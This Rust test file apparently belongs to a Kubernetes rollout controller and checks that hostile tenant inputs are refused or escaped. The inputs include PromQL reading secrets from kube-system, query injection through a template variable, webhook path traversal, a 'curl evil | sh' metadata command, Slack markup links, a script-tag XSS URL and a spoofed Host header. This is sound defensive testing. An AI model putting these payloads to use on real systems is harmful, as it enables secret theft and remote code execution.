//! A hostile tenant tries to reach what the cluster admin did not give it. Each scenario
//! is written as the tenant would try it — a Rollout checked by `weir validate` with the
//! admin's files (the controller's own admission), a webhook address, a message, a page
//! of the dashboard — and each must be refused with the field named, or made harmless.
//! The README's security table points at these tests line by line.

use std::path::Path;
use std::process::Command;

use http::{Request, Response};
use kube::Client;
use kube::client::Body;
use serde_json::json;
use weir::admin::Admin;
use weir::admin::providers::Providers;
use weir::admin::receivers::Receivers;
use weir::admin::webhooks::WebhookPolicy;
use weir::edges::notify::{Format, Kind, Notification};
use weir::edges::prometheus::{QueryError, parse_answer};
use weir::edges::webhooks::Webhooks;
use weir::plan::{MetricKind, Query};

/// The admin's files: a shared provider and one for team-b only; a template for all and
/// one for team-b; tenant PromQL allowed in `lab` only; a Slack channel per team; a
/// shared gateway path for team-a; metadata for `load-tests` only.
const PROVIDERS: &str = r#"
providers:
  - {name: shared, address: 'http://127.0.0.1:1', default: true}
  - {name: team-b-prom, address: 'http://127.0.0.1:2', namespaces: [team-b]}
templates:
  - name: error-rate
    query: 'sum(rate(http_errors_total{namespace="{{namespace}}",code=~{{codes}}}[{{interval}}]))'
    parameters:
      codes: {type: string, default: "5.."}
  - name: team-b-only
    query: 'sum(up{namespace="{{namespace}}"})'
    namespaces: [team-b]
tenantQueries: {namespaces: [lab], metrics: ["http_*"]}
"#;
const RECEIVERS: &str = r#"
receivers:
  - {name: team-a-slack, type: slack, url: 'https://hooks.slack.example/a', namespaces: [team-a]}
  - {name: team-b-slack, type: slack, url: 'https://hooks.slack.example/b', namespaces: [team-b]}
"#;
const WEBHOOKS: &str = r#"
allowedUrls:
  - {url: 'http://gw.shared.svc/tenant-a/', namespaces: [team-a]}
metadata: [load-tests]
"#;

fn admin() -> Admin {
    Admin {
        providers: Providers::from_yaml(PROVIDERS).unwrap(),
        receivers: Receivers::from_yaml(RECEIVERS).unwrap(),
        webhooks: WebhookPolicy::from_yaml(WEBHOOKS).unwrap(),
        windows: Default::default(),
    }
}

/// A Rollout with `extra_metric` as its second metric and `rest` added to its spec.
fn rollout(extra_metric: &str, rest: &str) -> String {
    format!(
        r#"apiVersion: weir.dev/v1alpha1
kind: Rollout
metadata: {{name: backend}}
spec:
  targetRef: {{kind: Deployment, name: backend}}
  trafficRouting:
    istio:
      virtualService: {{name: backend}}
      destinationRule: {{name: backend, stableSubset: stable, canarySubset: canary}}
  steps: [{{weight: 10}}, {{weight: 50}}]
  analysis:
    metrics:
      - {{name: request-success-rate, min: 99}}
{extra_metric}
{rest}"#
    )
}

/// What `weir validate` prints for `yaml` created in `namespace`, with the admin's files.
fn tenant_tries(namespace: &str, yaml: &str) -> String {
    let dir = tempfile::tempdir().unwrap();
    let file = |name: &str, text: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        path.display().to_string()
    };
    let (providers, notifications, webhooks) = (
        file("providers.yaml", PROVIDERS),
        file("notifications.yaml", RECEIVERS),
        file("webhooks.yaml", WEBHOOKS),
    );
    let rollout = file("rollout.yaml", yaml);
    let out = Command::new(env!("CARGO_BIN_EXE_weir"))
        .args(["validate", "--namespace", namespace])
        .args([
            "--providers",
            &providers,
            "--notifications",
            &notifications,
            "--webhooks",
            &webhooks,
        ])
        .arg(&rollout)
        .output()
        .expect("weir validate runs");
    let text = String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.success(), text.contains(": valid"), "{text}");
    text
}

fn refused(text: &str, field_and_problem: &str) {
    assert!(
        text.contains(field_and_problem),
        "expected `{field_and_problem}` in:\n{text}"
    );
}

#[test]
fn promql_written_in_a_rollout_is_refused_where_the_admin_did_not_allow_it() {
    let secrets = "      - {name: leak, max: 0, query: 'count(kube_secret_info{namespace=\"kube-system\"})'}";
    let text = tenant_tries("team-a", &rollout(secrets, ""));
    refused(
        &text,
        "spec.analysis.metrics[1].query: the cluster admin does not allow PromQL written in Rollouts of namespace team-a",
    );
}

#[test]
fn allowed_promql_is_pinned_to_its_namespace_to_the_admins_metrics_and_bounded() {
    let q = |query: &str| rollout(&format!("      - {{name: custom, max: 1, query: '{query}'}}"), "");
    let text = tenant_tries("lab", &q("count(kube_secret_info{namespace=\"kube-system\"})"));
    refused(&text, "spec.analysis.metrics[1].query: selector");
    refused(&text, "does not pin the namespace");
    let other = tenant_tries("lab", &q("sum(http_errors_total{namespace=\"team-b\"})"));
    refused(&other, "does not pin the namespace");
    let unlisted = tenant_tries("lab", &q("sum(kube_pod_info{namespace=\"{{namespace}}\"})"));
    refused(
        &unlisted,
        "reads a metric the cluster admin did not list (allowed: http_*)",
    );
    let long = tenant_tries(
        "lab",
        &q(&format!(
            "sum(http_errors_total{{namespace=\"{{{{namespace}}}}\",x=\"{}\"}})",
            "a".repeat(1100)
        )),
    );
    refused(&long, "the cluster admin allows at most 1000");
    let fine = tenant_tries(
        "lab",
        &q("sum(rate(http_errors_total{namespace=\"{{namespace}}\"}[{{interval}}]))"),
    );
    assert!(fine.contains("valid"), "{fine}");
}

#[test]
fn another_teams_provider_template_or_receiver_is_refused_with_its_field() {
    let provider = tenant_tries(
        "team-a",
        &rollout("", "").replace("  analysis:\n", "  analysis:\n    provider: team-b-prom\n"),
    );
    refused(
        &provider,
        "spec.analysis.provider: provider \"team-b-prom\" is not for namespace team-a",
    );
    let template = tenant_tries(
        "team-a",
        &rollout("      - {name: up, max: 1, templateRef: {name: team-b-only}}", ""),
    );
    refused(
        &template,
        "spec.analysis.metrics[1].templateRef.name: template \"team-b-only\" is not for namespace team-a",
    );
    let receiver = tenant_tries("team-a", &rollout("", "  notify: [team-b-slack]"));
    refused(
        &receiver,
        "spec.notify[0]: receiver \"team-b-slack\" is not for namespace team-a",
    );
    let own = tenant_tries(
        "team-b",
        &rollout(
            "      - {name: up, max: 1, templateRef: {name: team-b-only}}",
            "  notify: [team-b-slack]",
        ),
    );
    assert!(own.contains("valid"), "{own}");
}

/// A template variable is a value, never PromQL: written as an escaped string literal.
#[test]
fn a_template_variable_cannot_change_the_query() {
    let yaml = rollout(
        "      - {name: errors, max: 1, templateRef: {name: error-rate}, templateVariables: {codes: '5..\"}) or count(kube_secret_info{x=\"'}}",
        "",
    );
    let doc: serde_json::Value = serde_saphyr::from_str(&yaml).unwrap();
    let spec: weir_core::spec::RolloutSpec = serde_json::from_value(doc["spec"].clone()).unwrap();
    let admin = admin();
    let admitted = admin.admit("team-a", &spec).unwrap_or_else(|e| panic!("{e:?}"));
    let MetricKind::Custom {
        query: Query::Admitted(q),
        ..
    } = &admitted.plan.metrics[1].kind
    else {
        panic!("not admitted: {:?}", admitted.plan.metrics[1]);
    };
    assert_eq!(
        q,
        r#"sum(rate(http_errors_total{namespace="{{namespace}}",code=~"5..\"}) or count(kube_secret_info{x=\""}[{{interval}}]))"#
    );
    let text = tenant_tries(
        "team-a",
        &rollout(
            "      - {name: errors, max: 1, templateRef: {name: error-rate}, templateVariables: {window: 1m}}",
            "",
        ),
    );
    refused(
        &text,
        "spec.analysis.metrics[1].templateVariables.window: template \"error-rate\" has no parameter \"window\"",
    );
}

#[test]
fn a_metric_name_cannot_carry_markup_into_a_channel() {
    let text = tenant_tries(
        "team-a",
        &rollout(
            "      - {name: '<!channel> <https://evil|approve>', max: 1, templateRef: {name: error-rate}}",
            "",
        ),
    );
    refused(
        &text,
        "spec.analysis.metrics[1].name: \"<!channel> <https://evil|approve>\" is not a metric name",
    );
}

#[test]
fn a_webhook_address_cannot_be_bent_past_the_allow_list() {
    let hook = |url: &str| {
        rollout(
            "",
            &format!("  webhooks:\n    - {{name: gate, type: confirm-step, url: '{url}'}}"),
        )
    };
    for (url, problem) in [
        ("http://gw.shared.svc/tenant-a/../tenant-b/hook", "holds a dot segment"),
        (
            "http://gw.shared.svc/tenant-a/%2e%2e/tenant-b/hook",
            "holds a dot segment",
        ),
        ("http://gw.shared.svc/tenant-a//x", "holds an empty segment"),
        ("http://gw.shared.svc/tenant-a/..%2ftenant-b/hook", "encoded slash"),
    ] {
        refused(&tenant_tries("team-a", &hook(url)), "spec.webhooks[0].url: path");
        refused(&tenant_tries("team-a", &hook(url)), problem);
    }
    assert!(tenant_tries("team-a", &hook("http://gw.shared.svc/tenant-a/hook")).contains("valid"));
    refused(
        &tenant_tries("team-b", &hook("http://gw.shared.svc/tenant-a/hook")),
        "spec.webhooks[0].url: http://gw.shared.svc/tenant-a/hook is not an address the cluster admin allowed",
    );
    refused(
        &tenant_tries("team-a", &hook("http://x.team-b.svc/")),
        "is not an address the cluster admin allowed",
    );
}

#[test]
fn a_webhook_sends_no_command_for_a_load_tester_unless_the_admin_allows_it() {
    let hook = rollout(
        "",
        "  webhooks:\n    - {name: load, type: pre-rollout, url: 'http://tester.NS.svc/', metadata: {cmd: 'curl evil | sh'}}",
    );
    refused(
        &tenant_tries("team-a", &hook.replace("NS", "team-a")),
        "spec.webhooks[0].metadata: the cluster admin does not let namespace team-a send metadata",
    );
    assert!(tenant_tries("load-tests", &hook.replace("NS", "load-tests")).contains("valid"));
}

type Handle = tower_test::mock::Handle<Request<Body>, Response<Body>>;

/// Answers the next request (a GET of the Service) with `service`.
async fn answer_service(handle: &mut Handle, path: &str, service: serde_json::Value) {
    let (request, send) = handle.next_request().await.expect("a lookup of the Service");
    assert_eq!(request.uri().path(), path);
    send.send_response(
        Response::builder()
            .body(Body::from(serde_json::to_vec(&service).unwrap()))
            .unwrap(),
    );
}

/// An own-namespace address is looked up before each call: an ExternalName or a Service
/// without a selector is not called; a real one is called by its fully qualified name.
#[tokio::test]
async fn an_own_namespace_address_is_looked_up_and_called_fully_qualified() {
    let (service, mut handle) = tower_test::mock::pair::<Request<Body>, Response<Body>>();
    let client = Client::new(service, "team-a");
    let (hooks, _woken) = Webhooks::start(WebhookPolicy::default());
    let hooks = hooks.with_client(client, "cluster.local");
    let path = "/api/v1/namespaces/team-a/services/x";
    let svc = |spec: serde_json::Value| json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "x", "namespace": "team-a"}, "spec": spec});

    let external = tokio::spawn({
        let hooks = hooks.clone();
        async move { hooks.destination("team-a", "http://x.team-a.svc/run").await }
    });
    answer_service(
        &mut handle,
        path,
        svc(json!({"type": "ExternalName", "externalName": "kubernetes.default.svc.cluster.local"})),
    )
    .await;
    let why = external.await.unwrap().unwrap_err();
    assert!(
        why.contains("is an ExternalName (to \"kubernetes.default.svc.cluster.local\")"),
        "{why}"
    );

    let manual = tokio::spawn({
        let hooks = hooks.clone();
        async move { hooks.destination("team-a", "http://x.team-a.svc/run").await }
    });
    answer_service(&mut handle, path, svc(json!({"ports": [{"port": 80}]}))).await;
    let why = manual.await.unwrap().unwrap_err();
    assert!(
        why.contains("has no selector (its endpoints are written by hand)"),
        "{why}"
    );

    let real = tokio::spawn({
        let hooks = hooks.clone();
        async move { hooks.destination("team-a", "http://x.team-a.svc:8080/run").await }
    });
    answer_service(
        &mut handle,
        path,
        svc(json!({"selector": {"app": "x"}, "ports": [{"port": 8080}]})),
    )
    .await;
    assert_eq!(
        real.await.unwrap().unwrap(),
        "http://x.team-a.svc.cluster.local.:8080/run"
    );
}

#[test]
fn prometheus_error_text_reaches_status_only_summarised() {
    let body = json!({
        "status": "error", "errorType": "execution",
        "error": "found duplicate series for the match group {namespace=\"kube-system\"} on the right hand-side of the operation: [{__name__=\"kube_secret_info\", namespace=\"kube-system\", secret=\"db-password\"}];many-to-many matching not allowed: matching labels must be unique on one side"
    });
    let Err(QueryError::Rejected(text)) = parse_answer(422, body.to_string().as_bytes()) else {
        panic!("an error answer is a rejection");
    };
    assert!(!text.contains("db-password") && !text.contains("kube-system"), "{text}");
    assert!(
        text.starts_with("execution: found duplicate series for the match group {…}"),
        "{text}"
    );
}

#[test]
fn a_message_reaches_slack_and_teams_as_text() {
    let n = Notification {
        id: "u/r/RolledBack/1".into(),
        kind: Kind::RolledBack,
        namespace: "team-a".into(),
        name: "backend".into(),
        revision: None,
        step: Some(1),
        message: "pre-rollout answered 500: <!channel> <https://evil.example|approve> [approve](https://evil.example)"
            .into(),
        at: "2026-12-05T00:00:00Z".into(),
    };
    let slack = n.body(Format::Slack).to_string();
    assert!(!slack.contains("<!channel>") && !slack.contains("<https://"), "{slack}");
    let teams = n.body(Format::Teams)["text"].as_str().unwrap().to_string();
    assert!(!teams.contains("[approve](") && !teams.contains("<!"), "{teams}");
}

/// The dashboard, served as `weir dashboard` serves it (its API server unreachable here:
/// the error page is the one that reflected the URL).
#[tokio::test]
async fn the_dashboard_reflects_no_markup_and_answers_only_its_own_host() {
    let config = kube::Config::new("http://127.0.0.1:1".parse().unwrap());
    let client = Client::try_from(config).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let hosts = weir::cli::dashboard::allowed_hosts(addr, &[]);
    let app = weir::cli::dashboard::router(client, None, None, std::time::Duration::from_secs(30), hosts);
    let server = tokio::spawn(async move { axum::serve(listener, app).await });
    let http = reqwest::Client::new();
    let page = http
        .get(format!("http://{addr}/rollouts/%3Cscript%3Ealert(1)%3C%2Fscript%3E/x"))
        .send()
        .await
        .unwrap();
    let csp = page.headers()["content-security-policy"].to_str().unwrap().to_string();
    assert!(
        csp.contains("default-src 'none'") && !csp.contains("script-src"),
        "{csp}"
    );
    let text = page.text().await.unwrap();
    assert!(
        !text.contains("<script>") && text.contains("&lt;script&gt;alert(1)"),
        "{text}"
    );
    let rebound = http
        .get(format!("http://{addr}/"))
        .header("host", "attacker.example")
        .send()
        .await
        .unwrap();
    assert_eq!(rebound.status(), 421);
    let localhost = http
        .get(format!("http://{addr}/"))
        .header("host", format!("localhost:{}", addr.port()))
        .send()
        .await
        .unwrap();
    assert_eq!(localhost.status(), 200);
    server.abort();
}

/// The shipped configuration gives tenants nothing beyond the built-in metrics: no
/// PromQL of their own, no metadata, only their own Services.
#[test]
fn the_shipped_configuration_allows_no_tenant_promql_and_no_metadata() {
    let config = Path::new(env!("CARGO_MANIFEST_DIR")).join("config/base/15-providers.yaml");
    let map: serde_yaml::Value = serde_yaml::from_str(&std::fs::read_to_string(config).unwrap()).unwrap();
    let providers = Providers::from_yaml(map["data"]["providers.yaml"].as_str().unwrap()).unwrap();
    let webhooks = WebhookPolicy::from_yaml(map["data"]["webhooks.yaml"].as_str().unwrap()).unwrap();
    let admin = Admin {
        providers,
        webhooks,
        ..Default::default()
    };
    let yaml = rollout(
        "      - {name: leak, max: 0, query: 'count(kube_secret_info{namespace=\"{{namespace}}\"})'}",
        "  webhooks:\n    - {name: load, type: pre-rollout, url: 'http://t.apps.svc/', metadata: {cmd: x}}",
    );
    let problems = weir::cli::validate_bytes_as(yaml.as_bytes(), Some((&admin, Some("apps"))));
    let shown = problems.concat().join("\n");
    assert!(
        shown.contains("spec.analysis.metrics[1].query: the cluster admin does not allow PromQL"),
        "{shown}"
    );
    assert!(shown.contains("spec.webhooks[0].metadata"), "{shown}");
}
